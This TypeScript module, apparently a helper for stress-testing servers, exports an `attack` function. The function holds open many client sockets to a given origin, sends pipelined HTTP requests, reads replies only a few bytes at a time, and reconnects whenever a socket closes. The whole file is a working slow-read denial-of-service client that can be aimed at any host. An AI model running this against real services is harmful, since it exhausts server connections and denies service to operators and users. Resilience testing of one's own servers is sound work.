import { connect, type Socket } from 'node:net';

/** What each client asks for, how often on one socket without waiting for an answer, and how it reads. */
export interface Attack {
  readonly clients: number;
  readonly pipelined: number;
  readonly path: string;
  /** Bytes that are read every 100 ms; 0 for a client that reads nothing. */
  readonly bytesRead: number;
}

/** Clients that go on until they are stopped: one whose socket was closed opens another. */
export function attack(origin: string, { clients, pipelined, path, bytesRead }: Attack): { stop(): void } {
  const { hostname, port, host } = new URL(origin);
  const request = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`.repeat(pipelined);
  const sockets = new Set<Socket>();
  let stopped = false;
  const open = (): void => {
    const socket = connect(Number(port), hostname, () => socket.write(request));
    sockets.add(socket);
    socket.pause();
    socket.on('error', () => undefined);
    socket.on('close', () => {
      sockets.delete(socket);
      if (!stopped) setTimeout(open, 100);
    });
  };
  for (let client = 0; client < clients; client += 1) open();
  const reading = setInterval(() => {
    // A paused socket is not told that it was closed: what it reads tells it.
    for (const socket of sockets) socket.read(Math.max(1, bytesRead));
  }, 100);
  return {
    stop() {
      stopped = true;
      clearInterval(reading);
      for (const socket of sockets) socket.destroy();
    },
  };
}
